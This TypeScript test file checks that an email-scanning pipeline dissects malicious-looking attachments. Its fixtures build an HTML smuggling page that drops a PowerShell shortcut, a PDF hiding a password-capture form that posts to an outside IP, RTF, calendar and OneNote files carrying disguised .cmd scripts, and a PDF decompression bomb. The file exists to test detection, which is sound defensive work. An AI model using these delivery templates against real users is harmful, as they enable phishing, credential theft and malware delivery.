/**
 * The document dissectors and the shortcut engine inside the real analysis
 * pipeline: embedded files come out as members, go through the engines and
 * dissectors again, and findings land on the right artifact paths.
 */
import assert from 'node:assert/strict';
import { Buffer } from 'node:buffer';
import { describe, it } from 'node:test';
import { analyzeMessage } from '../../src/analysis/index.js';
import type { AnalysisLimits } from '../../src/analysis/index.js';
import { createHtmlDissector, createIcsDissector, createLnkEngine, createOneNoteDissector, createPdfDissector, createRtfDissector } from '../../src/analysis/documents/index.js';

const LIMITS: AnalysisLimits = {
  maxMessageBytes: 10 << 20,
  maxMimeParts: 100,
  maxMimeDepth: 10,
  expansion: { maxTotalBytes: 8 << 20, maxEntries: 100, maxDepth: 5, maxRatio: 250, maxMemberBytes: 4 << 20 },
};
const OPTIONS = {
  dissectors: [createPdfDissector(), createRtfDissector(), createOneNoteDissector(), createHtmlDissector(), createIcsDissector()],
  engines: [createLnkEngine()],
};

/** A shortcut whose LinkInfo points at powershell.exe ([MS-SHLLINK] 2.1, 2.3). */
function powershellLnk(): Buffer {
  const base = Buffer.from('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\0', 'latin1');
  const info = Buffer.alloc(28);
  info.writeUInt32LE(28 + base.length + 1, 0);
  info.writeUInt32LE(28, 4);
  info.writeUInt32LE(1, 8);
  info.writeUInt32LE(28, 16);
  info.writeUInt32LE(28 + base.length, 24);
  const args = '-c "echo hello"';
  const stringData = Buffer.concat([Buffer.from([args.length, 0]), Buffer.from(args, 'utf16le')]);
  const header = Buffer.alloc(0x4c);
  header.writeUInt32LE(0x4c, 0);
  Buffer.from('0114020000000000c000000000000046', 'hex').copy(header, 4);
  header.writeUInt32LE(0x2 | 0x20 | 0x80, 20);
  return Buffer.concat([header, info, base, Buffer.alloc(1), stringData, Buffer.alloc(4)]);
}

function smugglingPage(payload: Buffer): string {
  return `<html><body><script>var d = "${payload.toString('base64')}";
var b = new Blob([Uint8Array.from(atob(d), c => c.charCodeAt(0))]); var a = document.createElement('a');
a.href = URL.createObjectURL(b); a.download = 'scan.lnk'; a.click();</script></body></html>`;
}

function pdfWithEmbeddedPage(page: string): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(login) 3 0 R] >> >> >>',
    '<< /Type /Pages /Kids [] /Count 0 >>',
    '<< /Type /Filespec /F (login.html) /EF << /F 4 0 R >> >>',
    `<< /Type /EmbeddedFile /Length ${page.length} >>\nstream\n${page}\nendstream`,
  ];
  return Buffer.from(`%PDF-1.7\n${objects.map((o, i) => `${i + 1} 0 obj\n${o}\nendobj\n`).join('')}trailer\n<< /Root 1 0 R >>\n%%EOF\n`, 'latin1');
}

function rtfWithPackage(name: string, file: Buffer): Buffer {
  const u32 = (n: number): Buffer => {
    const b = Buffer.alloc(4);
    b.writeUInt32LE(n);
    return b;
  };
  const lp = (s: string): Buffer => Buffer.concat([u32(s.length + 1), Buffer.from(`${s}\0`, 'latin1')]);
  const temp = Buffer.from(`C:\\Temp\\${name}\0`, 'latin1');
  const native = Buffer.concat([Buffer.from([2, 0]), Buffer.from(`${name}\0C:\\${name}\0`, 'latin1'), u32(0x30000), u32(temp.length), temp, u32(file.length), file]);
  const ole1 = Buffer.concat([u32(0x501), u32(2), lp('Package'), lp(''), lp(''), u32(native.length), native]);
  return Buffer.from(`{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata ${ole1.toString('hex')}}}}`, 'latin1');
}

function calendarWithFile(name: string, file: Buffer): Buffer {
  return Buffer.from(['BEGIN:VCALENDAR', 'VERSION:2.0', 'BEGIN:VEVENT', 'DESCRIPTION:Join https://meet.example.org/x', `ATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=${name}:${file.toString('base64')}`, 'END:VEVENT', 'END:VCALENDAR', ''].join('\r\n'));
}

function oneNoteWithFile(file: Buffer): Buffer {
  const head = Buffer.alloc(20);
  head.writeUInt32LE(file.length, 0);
  return Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(64), Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex'), head, file, Buffer.alloc(32)]);
}

function message(attachments: readonly { name: string; type: string; content: Buffer }[]): Buffer {
  const boundary = 'moat-docs-boundary';
  const parts = attachments.map((a) =>
    [`--${boundary}`, `Content-Type: ${a.type}; name="${a.name}"`, `Content-Disposition: attachment; filename="${a.name}"`, 'Content-Transfer-Encoding: base64', '', a.content.toString('base64').replace(/.{76}/g, '$&\r\n')].join('\r\n'),
  );
  return Buffer.from(
    ['From: a@sender.example', 'To: b@example.test', 'Subject: documents', 'MIME-Version: 1.0', `Content-Type: multipart/mixed; boundary="${boundary}"`, '', `--${boundary}`, 'Content-Type: text/plain', '', 'See attached.', ...parts, `--${boundary}--`, ''].join('\r\n'),
  );
}

describe('document dissectors in the pipeline', () => {
  it('opens every document, analyses what it carries and reports at the right paths', async () => {
    const cmd = Buffer.from('@echo off\r\necho hello\r\n');
    const raw = message([
      { name: 'scan.html', type: 'text/html', content: Buffer.from(smugglingPage(powershellLnk())) },
      { name: 'statement.pdf', type: 'application/pdf', content: pdfWithEmbeddedPage('<html><form action="https://198.51.100.7/p"><input type="password" name="p"></form></html>') },
      { name: 'letter.rtf', type: 'application/rtf', content: rtfWithPackage('invoice.pdf.cmd', cmd) },
      { name: 'invite.ics', type: 'text/calendar', content: calendarWithFile('agenda.cmd', cmd) },
      { name: 'notes.one', type: 'application/onenote', content: oneNoteWithFile(cmd) },
    ]);
    const result = await analyzeMessage(raw, LIMITS, OPTIONS);
    const at = (path: string): string[] => result.findings.filter((f) => f.artifact === path).map((f) => f.symbol).sort();
    const named = (path: string): string | undefined => result.artifacts.find((a) => a.path === path)?.declaredName;

    assert.deepEqual(at('2'), ['HTML_SMUGGLING']);
    assert.deepEqual(at('2/1'), ['LNK_COMMAND'], 'the smuggled shortcut is analysed as a member');
    assert.deepEqual(at('3'), ['PDF_EMBEDDED_FILE']);
    assert.equal(named('3/1'), 'login.html');
    assert.deepEqual(at('3/1'), ['HTML_CREDENTIAL_FORM'], 'the embedded page is dissected in turn');
    assert.deepEqual(at('4'), ['RTF_OBJECT', 'RTF_PACKAGE_OBJECT']);
    assert.equal(named('4/1'), 'invoice.pdf.cmd');
    assert.deepEqual(at('5'), ['ICS_ATTACHMENT', 'ICS_LINK']);
    assert.equal(named('5/1'), 'agenda.cmd');
    assert.deepEqual(at('6'), ['ONENOTE_EMBEDDED_FILE']);
    assert.equal(result.artifacts.find((a) => a.path === '6/1')?.size, cmd.length);
    assert.ok(!result.findings.some((f) => f.symbol === 'ANALYSIS_CRASH' || f.symbol.endsWith('_FAIL')), JSON.stringify(result.findings));
  });

  it('turns a FlateDecode bomb inside a PDF into a budget finding, not a crash', async () => {
    const { deflateSync } = await import('node:zlib');
    const bomb = deflateSync(Buffer.alloc(64 << 20));
    const pdf = Buffer.concat([Buffer.from(`%PDF-1.7\n1 0 obj << /Type /EmbeddedFile /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`), bomb, Buffer.from('\nendstream\nendobj\n%%EOF\n')]);
    const result = await analyzeMessage(message([{ name: 'a.pdf', type: 'application/pdf', content: pdf }]), LIMITS, OPTIONS);
    assert.ok(result.findings.some((f) => f.symbol === 'ARCHIVE_BOMB' && f.artifact === '2'), JSON.stringify(result.findings));
    assert.ok(!result.findings.some((f) => f.symbol === 'ANALYSIS_CRASH'));
  });
});
